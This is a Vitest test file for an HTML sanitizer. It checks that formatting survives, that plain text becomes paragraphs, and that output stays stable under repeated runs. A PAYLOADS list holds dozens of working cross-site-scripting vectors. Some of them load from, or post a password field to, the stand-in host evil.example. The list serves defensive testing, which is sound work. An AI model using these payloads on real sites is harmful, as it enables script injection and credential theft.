import { expect, test } from "vitest";
import { safeHtml } from "@/lib/catalog/safe-html";

const REL = 'rel="nofollow ugc noopener noreferrer"';

test.each([
  ["<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"],
  ["<h2>Why</h2><ul><li>a<li>b</ul>", "<h2>Why</h2><ul><li>a</li><li>b</li></ul>"],
  ["<table><tr><th>a<td>b</table>", "<table><tbody><tr><th>a</th><td>b</td></tr></tbody></table>"],
  ["<div class=x>in <span>a box</span></div>", "in a box"],
  ['<a href="https://a.example/x">a</a>', `<a href="https://a.example/x" ${REL}>a</a>`],
  ['<a href="mailto:a@b.example" target="_blank">a</a>', `<a href="mailto:a@b.example" ${REL}>a</a>`],
])("keeps what formats text: %s", (source, expected) => {
  expect(safeHtml(source)).toBe(expected);
});

test.each([
  ["One line.", "<p>One line.</p>"],
  ["First\nsecond\n\n  Next  \n\n\n", "<p>First<br>second</p><p>Next</p>"],
  ["a < b && c > d", "<p>a &#x3C; b &#x26;&#x26; c > d</p>"],
  ["# Title\n\n* Markdown", "<p># Title</p><p>* Markdown</p>"],
  ["", ""],
  [" \n ", ""],
])("text without tags becomes paragraphs: %j", (source, expected) => {
  expect(safeHtml(source)).toBe(expected);
});

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://track.example/pixel.png>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  "<style>@import 'https://evil.example'</style>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<div style=background:url(https://evil.example)>x</div>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=https://evil.example><input name=password><button>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<a href=vbscript:msgbox(1)>x</a>",
  "<a href=docker-desktop://extensions/marketplace>x</a>",
  "<a href=//evil.example>x</a>",
  "<a href=/admin>x</a>",
  "<a href=?state=revoked>x</a>",
  "<a name=x id=csrf>x</a>",
  "<p id=app class=admin onclick=alert(1) data-x=1>x</p>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea></textarea><script>alert(1)</script>",
  "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
  "<xmp><script>alert(1)</script></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<x/onclick=alert(1)>x",
  "<b onmouseover=alert(1)>x</b>",
  "</p><script>alert(1)</script>",
  "<table background=javascript:alert(1)><td background=x>x</table>",
  "<select><style></select><img src=x onerror=alert(1)></style></select>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

const ALLOWED_TAG =
  /^<\/?(?:h[1-6]|p|br|hr|blockquote|pre|code|kbd|samp|strong|b|em|i|u|s|del|ins|sub|sup|small|mark|ul|ol|li|dl|dt|dd|table|thead|tbody|tfoot|tr|th|td|caption|a)>$/;
const ALLOWED_LINK = /^<a href="(?:https?:\/\/|mailto:)[^"<>]*" rel="nofollow ugc noopener noreferrer">$/;

test.each(PAYLOADS)("nothing that acts or loads comes through: %j", (payload) => {
  for (const source of [payload, `<p>before ${payload} after</p>`, `<table>${payload}`, `<a>${payload}`]) {
    const tags = safeHtml(source).match(/<[^>]*>?/g) ?? [];
    expect(tags.filter((tag) => !ALLOWED_TAG.test(tag) && !ALLOWED_LINK.test(tag))).toEqual([]);
  }
});

test("what came out once comes out the same again", () => {
  for (const payload of PAYLOADS) {
    const once = safeHtml(`<p>${payload}</p>`);
    expect(safeHtml(once)).toBe(once);
  }
});

test.each([
  ["deep nesting", "<div>".repeat(13_000)],
  ["deep nesting just below the limit", "<blockquote>".repeat(1_999)],
  ["formatting that the parser opens again and again", "<b><p>".repeat(10_000)],
  ["lone brackets", "<".repeat(65_536)],
])("a label full of %s gives an answer", (_what, source) => {
  expect(typeof safeHtml(source)).toBe("string");
});
